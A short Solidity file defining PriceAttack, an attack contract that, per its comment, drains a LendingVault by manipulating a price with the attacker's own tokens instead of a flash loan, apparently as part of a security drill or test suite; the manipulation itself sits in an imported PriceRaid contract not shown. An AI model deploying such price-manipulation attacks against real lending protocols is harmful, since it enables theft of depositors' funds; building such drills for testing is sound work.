// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {IERC20} from "./ERC20.sol";
import {LendingVault} from "./LendingVault.sol";
import {PriceRaid} from "./PriceRaid.sol";

/// The attack on `LendingVault` with the thief's own money, for drills: no loan gives it away, only what it does to the
/// price.
contract PriceAttack is PriceRaid {
    constructor(LendingVault vault_) PriceRaid(vault_) {}

    function run(uint256 amount) external onlyOwner {
        IERC20 cash = vault.asset();
        cash.transferFrom(owner, address(this), amount);
        _raid(address(cash), amount);
        _sendHome(cash);
    }
}
